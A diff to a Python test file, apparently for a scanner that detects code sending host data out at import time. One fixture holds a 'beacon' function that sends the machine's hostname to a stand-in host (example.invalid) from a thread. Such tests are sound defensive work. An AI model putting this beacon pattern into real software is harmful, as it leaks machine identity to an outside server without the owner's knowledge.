@@ -220,7 +220,8 @@ def test_host_data_sent_from_an_import_time_thread_or_dns_denies(key: str) -> No
 def test_a_thread_started_later_is_not_import_time() -> None:
     source = (
         "import platform, threading, urllib.request\n\n\n"
-        "def beacon():\n    urllib.request.urlopen('http://127.0.0.1:9/?h=' + platform.node())\n\n\n"
+        "def beacon():\n"
+        "    urllib.request.urlopen('http://example.invalid/?h=' + platform.node())\n\n\n"
         "def start():\n    threading.Thread(target=beacon).start()\n"
     )
     assert _worst(scan_python("t.py", source)) < Severity.HIGH
